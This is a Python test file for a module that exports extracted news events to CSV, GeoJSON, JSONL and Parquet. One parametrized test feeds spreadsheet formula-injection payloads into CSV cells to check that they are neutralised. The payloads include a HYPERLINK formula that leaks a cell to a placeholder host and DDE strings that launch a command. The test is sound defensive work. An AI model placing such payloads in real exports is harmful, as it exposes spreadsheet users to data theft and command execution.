"""Exports agree with the events they come from."""
import csv
import io
import json

import pytest

from extract.exports import event_rows, render, to_csv, to_geojson, to_jsonl
from tests.test_records import make_analysis


def test_event_rows_carry_the_document():
    rows = event_rows(make_analysis())
    assert rows[0]["document_id"] == make_analysis().document.id
    assert rows[0]["event_id"] == "e1" and rows[0]["published"] == "2023-10-19"


def test_csv_has_a_line_per_event_place():
    lines = list(csv.DictReader(io.StringIO(to_csv(event_rows(make_analysis())))))
    assert [line["place"] for line in lines] == ["Najin", "Dunay"]
    assert lines[0]["origin"] == "Najin" and lines[0]["destination"] == "Dunay"


def test_geojson_has_points_and_a_movement_line():
    collection = to_geojson(event_rows(make_analysis()))
    kinds = [f["geometry"]["type"] for f in collection["features"]]
    assert kinds == ["Point", "Point", "LineString"]
    assert collection["features"][1]["geometry"]["coordinates"] == [132.3354, 42.8788]   # lon, lat
    json.dumps(collection)


def test_jsonl_is_one_event_per_line():
    lines = to_jsonl(event_rows(make_analysis())).splitlines()
    assert len(lines) == 1 and json.loads(lines[0])["date_text"] == "7 سبتمبر"


def test_parquet_holds_the_event_rows_with_typed_days(tmp_path):
    import datetime as dt

    import pyarrow.parquet as pq

    from extract.exports import to_parquet

    rows = event_rows(make_analysis())
    assert to_parquet(rows, str(tmp_path / "events.parquet")) == 1
    [read] = pq.read_table(tmp_path / "events.parquet").to_pylist()
    assert (read["start"], read["published"]) == (dt.date(2023, 9, 7), dt.date(2023, 10, 19))
    assert [place["name"] for place in read["places"]] == [place["name"] for place in rows[0]["places"]]
    assert read["origin"] == rows[0]["origin"] and read["corrected"] is None
    assert {key: read[key] for key in ("event_id", "document_id", "sentence", "date_text", "granularity")} == {
        key: rows[0][key] for key in ("event_id", "document_id", "sentence", "date_text", "granularity")}


def test_csv_files_carry_a_bom_and_geonames_ids_are_integers():
    rows = event_rows(make_analysis())
    rows[0]["places"][0]["geonameid"] = 2044757.0            # as a DataFrame column of floats holds it
    data = render(rows, "csv")
    assert data.startswith("\ufeff".encode("utf-8")) and data.count(b"\xef\xbb\xbf") == 1
    lines = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert lines[0]["geonameid"] == "2044757"
    assert to_geojson(rows)["features"][0]["properties"]["geonameid"] == 2044757
    assert not render(rows, "geojson").startswith(b"\xef") and not render(rows, "jsonl").startswith(b"\xef")


@pytest.mark.parametrize("column, value, written", [
    ("document_title", '=HYPERLINK("http://example.invalid/?leak="&A1, "Click")',
     '\'=HYPERLINK("http://example.invalid/?leak="&A1, "Click")'),
    ("document_title", "+33 killed", "'+33 killed"),
    ("sentence", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("date_text", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("sentence", "\t=1+1", "'\t=1+1"),
    ("sentence", "\r=1+1", "'\r=1+1"),
    ("document_title", "Talks in Cairo = progress", "Talks in Cairo = progress"),
    ("document_title", "محادثات - القاهرة", "محادثات - القاهرة"),
])
def test_csv_cells_that_could_be_formulas_are_neutralised(column, value, written):
    rows = event_rows(make_analysis())
    rows[0][column] = value
    line = next(csv.DictReader(io.StringIO(render(rows, "csv").decode("utf-8-sig"))))
    assert line[column] == written


def test_csv_keeps_negative_coordinates_as_numbers():
    rows = event_rows(make_analysis())
    rows[0]["places"][0].update(lat=-33.86, lon=-151.2)
    line = next(csv.DictReader(io.StringIO(to_csv(rows))))
    assert (line["lat"], line["lon"]) == ("-33.86", "-151.2")
